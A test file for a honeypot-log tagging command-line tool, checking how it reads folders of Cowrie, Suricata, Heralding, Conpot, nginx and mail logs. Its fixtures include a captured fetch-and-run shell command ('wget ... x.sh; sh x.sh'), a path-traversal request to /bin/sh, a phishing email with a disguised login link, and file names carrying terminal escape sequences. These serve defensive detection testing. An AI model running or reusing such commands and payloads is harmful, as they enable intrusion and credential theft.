import { spawnSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { TagRow } from '../src/exports/tag-row.js'
import { captureLines } from './support/capture.js'
import { type CliResult, linesOf, runCli } from './support/run-cli.js'

let home: string
let place = 0

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'decnet-ttp-folders-'))
})
afterAll(() => {
  rmSync(home, { recursive: true, force: true })
})

/** A folder with these files in it, and those of folders in it. */
function folderOf(files: Readonly<Record<string, string | Buffer>>): string {
  const folder = join(home, String(place++))
  mkdirSync(folder)
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), content)
  }
  return folder
}

const jsonl = (paths: readonly string[], ...options: string[]) =>
  runCli(['tag', ...paths, '--output', 'jsonl', '--no-correlation', ...options])
const rowsOf = ({ stdout }: CliResult) => linesOf(stdout).map((line) => JSON.parse(line) as TagRow)
const uuidsOf = (result: CliResult) => rowsOf(result).map(({ uuid }) => uuid)

const cowrie = (input: string) =>
  `${JSON.stringify({
    eventid: 'cowrie.command.input',
    input,
    sensor: 'decky-01',
    timestamp: '2026-11-20T10:00:00.000000Z',
    session: 'a1b2c3d4e5f6',
    src_ip: '203.0.113.5',
  })}\n`
const DOWNLOAD = cowrie('cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh')
const eve = `${JSON.stringify({
  timestamp: '2026-11-20T10:00:00.000000+0000',
  flow_id: 1,
  event_type: 'http',
  src_ip: '203.0.113.6',
  src_port: 40000,
  dest_ip: '192.0.2.10',
  dest_port: 80,
  proto: 'TCP',
  http: { hostname: '192.0.2.10', url: '/cgi-bin/.%2e/.%2e/bin/sh', http_method: 'POST', status: 404 },
})}\n`
const AUTH =
  'timestamp,auth_id,session_id,source_ip,source_port,destination_ip,destination_port,protocol,username,password,password_hash\n' +
  '2026-11-20 10:00:00.000000,0b9b5f0e-0000-4000-8000-000000000001,0b9b5f0e-0000-4000-8000-000000000002,203.0.113.7,40001,192.0.2.10,110,pop3,root,root,\n'
const MAIL = [
  'Received: from mail.example.net (mail.example.net [203.0.113.8]) by decoy.example.com; Fri, 20 Nov 2026 10:00:00 +0000',
  'From: "Bank" <service@example.net>',
  'To: someone@example.com',
  'Subject: Your invoice',
  'Date: Fri, 20 Nov 2026 10:00:00 +0000',
  'Message-ID: <1@example.net>',
  'Content-Type: text/html',
  '',
  '<p>Urgent: verify your password at <a href="http://203.0.113.9/login">https://bank.example.com/login</a>',
].join('\r\n')

describe('a folder', () => {
  it('gives what its files give, rotated and packed ones among them, each read once', async () => {
    const lines = captureLines().slice(0, 400)
    const piece = (from: number, to: number) => `${lines.slice(from, to).join('\n')}\n`
    const folder = folderOf({
      'cowrie.json': piece(300, 400),
      'cowrie.json.1': piece(200, 300),
      'cowrie.json.2026-11-20': piece(100, 200),
      'older/cowrie.json.3.gz': gzipSync(piece(0, 100)),
    })
    symlinkSync(folder, join(folder, 'loop'))
    symlinkSync('cowrie.json', join(folder, 'current'))
    const found = await jsonl([folder, join(folder, 'older')])
    const named = folderOf({ 'whole.json': piece(0, 400) })
    const expected = await jsonl([join(named, 'whole.json')])
    expect(found).toMatchObject({ status: 0, stderr: 'passed over in folders: 2 symbolic links\n' })
    expect(uuidsOf(found).sort()).toEqual(uuidsOf(expected).sort())
    expect(uuidsOf(await jsonl([folder]))).toEqual(uuidsOf(found))
  })

  it("of T-Pot's layout is read with the right decoders; what none reads is told once by its program", async () => {
    const folder = folderOf({
      'cowrie/log/cowrie.json': DOWNLOAD,
      'cowrie/log/cowrie.json.1.gz': gzipSync(cowrie('uname -a')),
      'cowrie/log/cowrie-textlog.log': 'the same in words\n',
      'cowrie/log/tty/20261120-a1': DOWNLOAD,
      [`cowrie/downloads/${'a1'.repeat(32)}`]: DOWNLOAD,
      'suricata/log/eve.json': eve,
      'suricata/log/stats.log': 'counters\n',
      'heralding/log/auth.csv': AUTH,
      'conpot/log/conpot_IEC104.json': '{"id": 1, "remote": "203.0.113.9"}\n',
      'conpot/log/conpot_ipmi.json': '{"id": 1, "remote": "203.0.113.9"}\n',
      'nginx/log/access.log':
        '203.0.113.9 - - [20/Nov/2026:10:00:00 +0000] "GET /admin.php HTTP/1.1" 200 1 "-" "curl/8"\n',
    })
    const result = await jsonl([folder])
    expect(result.status).toBe(0)
    const kinds = new Set(rowsOf(result).map(({ source_kind }) => source_kind))
    expect([...kinds].sort()).toEqual(['command', 'http_request'])
    expect(rowsOf(result).filter(({ rule_id }) => rule_id === 'R0012')).toHaveLength(1)
    const told = linesOf(result.stderr)
    expect(told).toHaveLength(2)
    expect(told[0]).toMatch(/conpot_IEC104\.json: no decoder reads logs of Conpot; this and 1 more of its files/)
    expect(told[1]).toBe('passed over in folders: 2 captured by a decoy, 3 of T-Pot that tell nothing more')
  })

  it('of mails gives what each of them gives, also in a Maildir', async () => {
    const folder = folderOf({
      'one.eml': MAIL,
      'Maildir/new/1795165200.M1P2.mx': MAIL.replace('<1@', '<2@'),
      'Maildir/cur/1795165201.M2P2.mx:2,S': MAIL.replace('<1@', '<3@'),
      'Maildir/tmp/1795165202.M3P2.mx': MAIL.replace('<1@', '<4@'),
    })
    const result = await jsonl([folder])
    expect(result).toMatchObject({ status: 0, stderr: expect.stringContaining('1 of editors or unfinished') })
    const one = uuidsOf(await jsonl([join(folder, 'one.eml')]))
    expect(one.length).toBeGreaterThan(0)
    expect(uuidsOf(result)).toHaveLength(one.length * 3)
  })

  it('passes over what is no log, quietly and counted', async () => {
    const folder = folderOf({
      'cowrie.json': DOWNLOAD,
      'cowrie.json~': DOWNLOAD,
      '.cowrie.json.swp': DOWNLOAD,
      'logs.tgz': gzipSync(Buffer.alloc(2048)),
      empty: '',
      'blank.log': '\n\n',
      program: Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(5000, 3)]),
      'notes.txt': 'nothing that a decoder knows\n',
    })
    spawnSync('mkfifo', [join(folder, 'pipe')])
    const result = await jsonl([folder])
    expect(rowsOf(result).length).toBeGreaterThan(0)
    expect(result.status).toBe(0)
    expect(linesOf(result.stderr)).toHaveLength(1)
    for (const part of ['2 empty', '2 without a known log format', '1 hidden', '1 archives', '1 sockets, pipes'])
      expect(result.stderr).toContain(part)
  })

  it('never gives events of a format that has to be asked for', async () => {
    const event = {
      source_kind: 'command',
      source_id: 'one',
      attacker_uuid: 'e9942227-ab57-515b-a1e4-346e49c21839',
      identity_uuid: null,
      session_id: null,
      decky_id: null,
      observed_at: '2026-11-20T10:00:00.000Z',
      payload: { command_text: 'wget http://198.51.100.7/x.sh' },
    }
    const folder = folderOf({ 'events.jsonl': `${JSON.stringify(event)}\n`.repeat(30) })
    const silent = await jsonl([folder])
    expect(silent).toMatchObject({
      status: 2,
      stdout: '',
      stderr: expect.stringContaining('there is no log in this folder'),
    })
    expect(rowsOf(await jsonl([folder], '--format', 'events')).length).toBeGreaterThan(0)
  })

  it('keeps control characters of names off the terminal', async () => {
    const hostile = 'cow\x1b]0;owned\x07\nrie\u202e.json'
    const folder = folderOf({ [hostile]: `${DOWNLOAD}{"half\n`, 'conpot/log/\x1b[2J.json': '{"id": 1}\n' })
    for (const program of ['cowrie', 'dionaea', 'suricata']) mkdirSync(join(folder, program))
    const result = await jsonl([folder])
    expect(rowsOf(result).length).toBeGreaterThan(0)
    expect(result.stderr).not.toMatch(/[\x07\x1b\u202e]/)
    expect(result.stderr).toMatch(/cow\\x1b\]0;owned\\x07\\x0arie\\u202e\.json:2/)
    expect(result.stderr).toMatch(/\\x1b\[2J\.json: no decoder reads logs of Conpot/)
  })

  it.skipIf(process.getuid?.() === 0)('tells of what may not be read', async () => {
    const folder = folderOf({ 'cowrie.json': DOWNLOAD, 'other.json': DOWNLOAD })
    chmodSync(join(folder, 'other.json'), 0)
    const result = await jsonl([folder])
    expect(result).toMatchObject({ status: 0, stderr: expect.stringMatching(/other\.json: no permission/) })
  })

  it('is no place to hide: what attackers brought is not read as a log', async () => {
    const folder = folderOf({ 'cowrie.json': cowrie('id'), 'dl/cowrie.json': DOWNLOAD, 'var/tty/x': DOWNLOAD })
    const result = await jsonl([folder])
    expect(result).toMatchObject({ status: 0, stderr: 'passed over in folders: 2 captured by a decoy\n' })
    expect(rowsOf(result).filter(({ rule_id }) => rule_id === 'R0012')).toEqual([])
  })
})
